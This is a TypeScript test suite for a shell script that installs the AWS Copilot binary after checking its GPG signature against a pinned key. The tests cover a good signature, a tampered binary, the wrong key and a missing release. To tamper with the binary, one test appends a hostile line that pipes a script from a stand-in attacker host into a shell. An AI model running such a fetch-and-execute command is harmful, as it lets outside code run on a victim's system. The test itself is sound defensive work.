import { execFile, execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

const script = resolve(__dirname, '../../scripts/install-copilot.sh');
const releaseKey = resolve(__dirname, '../../copilot/amazon-ecs-release-key.asc');
const hasGpg = spawnSync('gpg', ['--version']).status === 0;
// CI must have gpg (the workflows and buildspecs verify Copilot with it); a laptop may not.
if (!hasGpg && !process.env['CI']) process.stdout.write('install-copilot.sh: gpg is not installed here, signature tests skipped (CI runs them)\n');
const describeWithGpg = hasGpg || process.env['CI'] ? describe : describe.skip;

const primaryFingerprint = (homedir: string, keyFile: string) =>
  execFileSync('gpg', ['--batch', '--homedir', homedir, '--with-colons', '--show-keys', keyFile], { encoding: 'utf8' })
    .split('\n')
    .find((l) => l.startsWith('fpr:'))
    ?.split(':')[9];

describeWithGpg('install-copilot.sh', () => {
  let dir: string;
  let server: Server;
  let releases: string;
  let fingerprint: string;
  const files = new Map<string, Buffer>();
  const gpg = (...args: string[]) =>
    execFileSync('gpg', ['--batch', '--homedir', join(dir, 'signer'), '--pinentry-mode', 'loopback', '--passphrase', '', ...args], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    });

  /** Runs the script against the local release server; resolves to its exit code and output. */
  const install = (env: Record<string, string>) =>
    new Promise<{ code: number; output: string; installed: boolean; target: string }>((done) => {
      const target = mkdtempSync(join(dir, 'bin-'));
      execFile(
        'sh',
        [script, 'v9.9.9', target],
        { env: { ...process.env, COPILOT_RELEASES_URL: releases, COPILOT_RELEASE_KEY: join(dir, 'signer.asc'), ...env } },
        (error, stdout, stderr) =>
          done({ code: error ? Number(error.code) : 0, output: `${stdout}${stderr}`, installed: existsSync(join(target, 'copilot')), target }),
      );
    });

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'forum-install-copilot-'));
    mkdirSync(join(dir, 'signer'), { mode: 0o700 });
    gpg('--quick-gen-key', 'Test Release <release@example.com>', 'ed25519', 'sign', 'never');
    gpg('--armor', '--output', join(dir, 'signer.asc'), '--export', 'release@example.com');
    fingerprint = primaryFingerprint(join(dir, 'signer'), join(dir, 'signer.asc'))!;
    writeFileSync(join(dir, 'copilot-linux'), '#!/bin/sh\necho "copilot version: v9.9.9"\n');
    gpg('--armor', '--detach-sign', '--output', join(dir, 'copilot-linux.asc'), join(dir, 'copilot-linux'));
    files.set('/v9.9.9/copilot-linux', readFileSync(join(dir, 'copilot-linux')));
    files.set('/v9.9.9/copilot-linux.asc', readFileSync(join(dir, 'copilot-linux.asc')));
    server = createServer((req, res) => {
      const body = files.get(req.url ?? '');
      if (body) res.end(body);
      else res.writeHead(404).end();
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    releases = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }, 60000);
  afterAll(async () => {
    await new Promise((closed) => server.close(closed));
    rmSync(dir, { recursive: true, force: true });
  });

  it('when the binary is signed by the pinned key, then it is installed and runs', async () => {
    const result = await install({ COPILOT_RELEASE_FINGERPRINT: fingerprint });
    expect(result).toMatchObject({ code: 0, output: expect.stringContaining(`signature by ${fingerprint} verified`), installed: true });
    expect(execFileSync(join(result.target, 'copilot'), { encoding: 'utf8' })).toBe('copilot version: v9.9.9\n');
  }, 30000);

  it('when the binary was changed after signing, then nothing is installed and the exit code is 1', async () => {
    const signed = files.get('/v9.9.9/copilot-linux')!;
    files.set('/v9.9.9/copilot-linux', Buffer.concat([signed, Buffer.from('curl evil.example | sh\n')]));
    try {
      const result = await install({ COPILOT_RELEASE_FINGERPRINT: fingerprint });
      expect(result).toMatchObject({ code: 1, output: expect.stringContaining('the signature does not verify'), installed: false });
    } finally {
      files.set('/v9.9.9/copilot-linux', signed);
    }
  }, 30000);

  it('when the signature is good but made by another key than the pinned one, then nothing is installed', async () => {
    const result = await install({}); // the default pin: the Amazon ECS release key
    expect(result).toMatchObject({ code: 1, installed: false });
  }, 30000);

  it('when the release is missing, then nothing is installed', async () => {
    files.delete('/v9.9.9/copilot-linux.asc');
    const result = await install({ COPILOT_RELEASE_FINGERPRINT: fingerprint });
    expect(result).toMatchObject({ code: 22, installed: false });
  }, 30000);

  it('when the committed release key is read, then its fingerprint is the one the script pins', () => {
    const pinned = /COPILOT_RELEASE_FINGERPRINT:-([0-9A-F]{40})/.exec(readFileSync(script, 'utf8'))?.[1];
    expect(pinned).toBe('F34C3DDAE72926B079BEAEC6BCE9D9A42D51784F');
    expect(primaryFingerprint(join(dir, 'signer'), releaseKey)).toBe(pinned);
  });
});
